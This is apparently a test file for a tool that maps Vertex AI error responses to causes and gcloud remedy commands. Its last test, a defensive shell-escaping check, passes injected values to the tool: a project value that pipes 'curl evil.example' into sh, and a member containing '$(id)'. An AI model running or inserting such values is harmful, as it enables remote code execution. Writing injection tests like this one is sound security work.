import { describe, expect, test } from 'vitest'
import type { Answer } from '../../src/core/errors.ts'
import { diagnose as diagnoseAnswer, diagnoseEnd } from '../../src/report/diagnosis.ts'
import type { RequestContext } from '../../src/report/symptoms/symptom.ts'
import { adviceOf } from '../advice.ts'

const context = {
  member: 'serviceAccount:trainer@acme-ml.iam.gserviceaccount.com',
  project: 'acme-ml',
  location: 'us-central1',
  step: 'train',
}
/** Returns the advice with its commands, each on its own lines. */
const diagnose = (answer: Answer, of: RequestContext): { cause: string; cure: string } => {
  const found = diagnoseAnswer(answer, of)
  return { cause: found.cause, cure: adviceOf(found) }
}
const diagnoseStatus = ({ code, message }: { code: number; message: string }, of: RequestContext) =>
  diagnoseEnd({ host: 'aiplatform.googleapis.com', status: code, words: message }, of)
const host = 'us-central1-aiplatform.googleapis.com'
const answer = (code: number, status: string, message: string, reason?: string) => ({
  host,
  status: code,
  words: JSON.stringify({
    error: {
      code,
      message,
      status,
      ...(reason === undefined ? {} : { details: [{ '@type': 'type.googleapis.com/google.rpc.ErrorInfo', reason }] }),
    },
  }),
})

describe('an answer of Vertex AI', () => {
  test('that names a permission: the role that holds it, and the command', () => {
    const words =
      "Permission 'aiplatform.customJobs.create' denied on resource '//aiplatform.googleapis.com/projects/acme-ml/locations/us-central1' (or it may not exist)."
    for (const one of [answer(403, 'PERMISSION_DENIED', words, 'IAM_PERMISSION_DENIED'), { host, status: 403, words }])
      expect(diagnose(one, context)).toEqual({
        cause:
          'serviceAccount:trainer@acme-ml.iam.gserviceaccount.com lacks aiplatform.customJobs.create in project acme-ml; roles/aiplatform.user includes it',
        cure: [
          'Grant the role; it takes effect in a minute or two:',
          'gcloud projects add-iam-policy-binding acme-ml \\',
          '  --member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com \\',
          '  --role=roles/aiplatform.user',
        ].join('\n'),
      })
  })

  test('about a runtime account: who must be let act as it, in that account’s own project', () => {
    const words =
      'You do not have permission to act as service_account: runtime@acme-run.iam.gserviceaccount.com. (or it may not exist).'
    expect(diagnose(answer(400, 'INVALID_ARGUMENT', words), context)).toEqual({
      cause:
        'serviceAccount:trainer@acme-ml.iam.gserviceaccount.com may not start jobs that run as runtime@acme-run.iam.gserviceaccount.com, or that account does not exist',
      cure: [
        'Grant the role:',
        'gcloud iam service-accounts add-iam-policy-binding runtime@acme-run.iam.gserviceaccount.com \\',
        '  --project=acme-run \\',
        '  --member=serviceAccount:trainer@acme-ml.iam.gserviceaccount.com \\',
        '  --role=roles/iam.serviceAccountUser',
      ].join('\n'),
    })
  })

  test.each([
    [
      'an API that is off',
      answer(
        403,
        'PERMISSION_DENIED',
        'Vertex AI API has not been used in project 123456789 before or it is disabled. Enable it by visiting https://console.developers.google.com/apis/api/aiplatform.googleapis.com/overview?project=123456789 then retry.',
        'SERVICE_DISABLED',
      ),
      /^the API aiplatform\.googleapis\.com is not enabled in project acme-ml$/,
      /gcloud services enable aiplatform\.googleapis\.com --project=acme-ml$/,
    ],
    [
      'a project that does not exist',
      answer(403, 'PERMISSION_DENIED', 'Permission denied on resource project acme-ml.', 'CONSUMER_INVALID'),
      /^there is no project acme-ml/,
      /gcloud projects describe acme-ml$/,
    ],
    [
      'a refusal that names nothing',
      answer(403, 'PERMISSION_DENIED', 'The caller does not have permission'),
      /may not do this in project acme-ml$/,
      /--filter=bindings\.members=serviceAccount:|--filter='bindings\.members=serviceAccount:/,
    ],
    [
      'an expired token',
      answer(401, 'UNAUTHENTICATED', 'Request had invalid authentication credentials.', 'ACCESS_TOKEN_EXPIRED'),
      /^the access token had expired/,
      /clock of the runner/,
    ],
    [
      'a token that did not arrive',
      answer(401, 'UNAUTHENTICATED', 'Request is missing required authentication credential.', 'CREDENTIALS_MISSING'),
      /^Google found no credential/,
      /proxy/,
    ],
    [
      'a quota by its name',
      answer(
        429,
        'RESOURCE_EXHAUSTED',
        'The following quota metrics exceed quota limits: aiplatform.googleapis.com/custom_model_training_nvidia_p4_gpus',
      ),
      /^the quota aiplatform\.googleapis\.com\/custom_model_training_nvidia_p4_gpus of project acme-ml in us-central1 is exceeded$/,
      /iam-admin\/quotas\?project=acme-ml\nThis shows the quota:\ngcloud beta quotas info list --service=aiplatform\.googleapis\.com --project=acme-ml /,
    ],
    [
      'a stock-out, which is not a quota',
      answer(
        429,
        'RESOURCE_EXHAUSTED',
        'Resources are insufficient in region: us-central1. Please try a different region.',
      ),
      /^Google has no such machine free in us-central1 now/,
      /another location or machine type/,
    ],
    [
      'a machine that the region lacks',
      answer(400, 'INVALID_ARGUMENT', 'Machine type "a3-megagpu-8g" is not supported.'),
      /^us-central1 does not offer a3-megagpu-8g/,
      /locations#accelerators$/,
    ],
    [
      'an image that cannot be read',
      answer(400, 'INVALID_ARGUMENT', 'Failed to pull image us-docker.pkg.dev/acme-ml/train/fraud:1: not found'),
      /^the image us-docker\.pkg\.dev\/acme-ml\/train\/fraud:1 does not exist/,
      /gcloud artifacts docker images describe us-docker\.pkg\.dev\/acme-ml\/train\/fraud:1$/,
    ],
    [
      'a bucket that the runtime account may not use',
      answer(
        400,
        'INVALID_ARGUMENT',
        'Service account `109-compute@developer.gserviceaccount.com` does not have `[storage.objects.get, storage.objects.create]` IAM permission(s) to the bucket "learn-demo1".',
      ),
      /^serviceAccount:109-compute@developer\.gserviceaccount\.com may not use the bucket gs:\/\/learn-demo1/,
      /gs:\/\/learn-demo1 \\\n {2}--member=serviceAccount:109-compute@developer\.gserviceaccount\.com \\\n {2}--role=roles\/storage\.objectViewer$/,
    ],
    [
      'a region that does not exist',
      { host, status: 404, words: '<!DOCTYPE html><html><title>Error 404 (Not Found)!!1</title></html>' },
      /^Vertex AI has no such method at us-central1/,
      /general\/locations$/,
    ],
    [
      'a resource that is gone',
      answer(404, 'NOT_FOUND', 'The CustomJob projects/123/locations/us-central1/customJobs/9 does not exist.'),
      /^projects\/123\/locations\/us-central1\/customJobs\/9 does not exist/,
      /only in its own location/,
    ],
    [
      'an alias that nobody has',
      answer(404, 'NOT_FOUND', 'The Model "projects/123/locations/us-central1/models/fraud@champoin" does not exist.'),
      /^the model fraud has no version or alias champoin in us-central1/,
      /\ngcloud ai models list-version fraud --project=acme-ml --region=us-central1$/,
    ],
    [
      'a model server that does not start',
      answer(
        400,
        'FAILED_PRECONDITION',
        'Model server never became ready. Please validate that your model file is valid.',
      ),
      /^the container of the model did not start/,
      /\ngcloud logging read 'resource\.type="aiplatform\.googleapis\.com\/Endpoint"' \\\n {2}--project=acme-ml/,
    ],
    [
      'a deployment without machines',
      answer(503, 'UNAVAILABLE', 'Machine type temporarily unavailable, please deploy with a different machine type.'),
      /^Google has no such machine free in us-central1 now/,
      /under `fallback`/,
    ],
    [
      'an endpoint without traffic',
      answer(400, 'FAILED_PRECONDITION', "Endpoint projects/1/locations/l/endpoints/e doesn't have traffic_split."),
      /^no deployed model of the endpoint gets any traffic$/,
      /trafficSplit: \{ "0": 100 \}/,
    ],
    [
      'a split that is refused, which is not an endpoint without traffic',
      answer(400, 'INVALID_ARGUMENT', 'endpoint.traffic_split: the sum of all traffic percentages must be 100.'),
      /^Vertex AI refuses a value in the body of step train$/,
      /customJob\.jobSpec/,
    ],
    [
      'a publisher’s model that is misspelled',
      answer(
        404,
        'NOT_FOUND',
        'Publisher Model `projects/p/locations/us-central1/publishers/google/models/gemini-2.5-flsh` was not found.',
      ),
      /publishers\/google\/models\/gemini-2\.5-flsh does not exist, is misspelled/,
      /generative-ai/,
    ],
    [
      'a file that is not there',
      answer(400, 'INVALID_ARGUMENT', 'gs://acme-models/fraud/in.jsonl: No files matched the input pattern.'),
      /^what is at gs:\/\/acme-models\/fraud\/in\.jsonl is missing/,
      /\ngcloud storage ls -l gs:\/\/acme-models\/fraud\/in\.jsonl$/,
    ],
    [
      'a bucket that does not exist',
      answer(404, 'NOT_FOUND', 'The specified bucket does not exist.'),
      /^there is no bucket of that name$/,
      /\ngcloud storage buckets list --project=acme-ml/,
    ],
    [
      'a field that is refused',
      answer(400, 'INVALID_ARGUMENT', "Invalid value at 'custom_job.job_spec.worker_pool_specs[0].replica_count'"),
      /^Vertex AI refuses a value in the body of step train$/,
      /customJob\.jobSpec/,
    ],
    [
      'an outage',
      { host, status: 503, words: 'upstream connect error' },
      /has internal errors$/,
      /status\.cloud\.google\.com$/,
    ],
  ])('%s', (_, one, cause, cure) => {
    const diagnosis = diagnose(one, context)
    expect(diagnosis.cause).toMatch(cause)
    expect(diagnosis.cure).toMatch(cure)
  })

  test('finds in what the request was about what the words do not say', () => {
    const denied = answer(403, 'PERMISSION_DENIED', 'x does not have storage.objects.get access to the object.')
    const about = 'Step better: gs://acme-models/fraud/metrics.json cannot be read'
    expect(diagnose(denied, { ...context, about }).cure).toContain('add-iam-policy-binding gs://acme-models \\')
  })

  test('of a prediction is told of the model’s own container', () => {
    const about = 'h refused POST /v1/projects/p/locations/us-central1/endpoints/fraud:predict'
    const found = diagnose(answer(400, 'INVALID_ARGUMENT', '{"error":"missing field amount"}'), { ...context, about })
    expect(found.cause).toContain('does not accept these instances')
    expect(found.cure).toContain('resource.labels.endpoint_id="fraud"')
  })

  test('of what is looked for elsewhere than its step runs asks there', () => {
    const missing = answer(
      404,
      'NOT_FOUND',
      'The Model "projects/1/locations/europe-west4/models/fraud@3" does not exist.',
    )
    const about = 'h refused GET /v1/projects/acme-dev/locations/europe-west4/models/fraud@3'
    expect(diagnose(missing, { ...context, about })).toMatchObject({
      cause: expect.stringContaining('in europe-west4'),
      cure: expect.stringContaining('list-version fraud --project=acme-dev --region=europe-west4'),
    })
  })

  test('that nobody foresaw keeps host, status and request id', () => {
    expect(diagnose({ host, status: 418, words: 'short and stout', requestId: 'r-1' }, context)).toEqual({
      cause: 'us-central1-aiplatform.googleapis.com answered 418, and this action has no explanation for it',
      cure: "Google's own message says more. Google's support can look up the request by its id, r-1.",
    })
  })
})

describe('a job’s own error has a numeric code and no status', () => {
  test('code 8 without a word of quota is a stock-out', () => {
    expect(
      diagnoseStatus({ code: 8, message: 'Resources are insufficient in region: us-central1.' }, context).cause,
    ).toMatch(/stock-out/)
  })
  test('a program that was killed most often wanted memory', () => {
    const message = 'The replica workerpool0-0 exited with a non-zero status of 137.'
    expect(diagnoseStatus({ code: 3, message }, context).cause).toBe(
      'the program in replica workerpool0-0 was killed, usually because memory ran out',
    )
  })
  test('code 7 that names a permission leads to the role', () => {
    const message =
      "Permission 'artifactregistry.repositories.downloadArtifacts' denied on resource '//artifactregistry.googleapis.com/projects/acme-ml/locations/us/repositories/train'"
    expect(diagnoseStatus({ code: 7, message }, context).cause).toMatch(/^the image/)
  })
  test('an unknown code is told as it is', () => {
    expect(diagnoseStatus({ code: 99, message: 'x' }, context).cause).toBe(
      'step train ended with code 99; its log says more',
    )
  })
})

test('no value of a server or a user breaks out of the command', () => {
  const evil = { ...context, project: "x'; curl evil.example | sh; '", member: 'serviceAccount:$(id)@x' }
  const { cure = '' } = diagnose({ host, status: 403, words: "Permission 'aiplatform.customJobs.create' denied" }, evil)
  expect(cure).toContain(`binding 'x'\\''; curl evil.example | sh; '\\''' \\`)
  expect(cure).toContain(`--member='serviceAccount:$(id)@x' \\`)
})
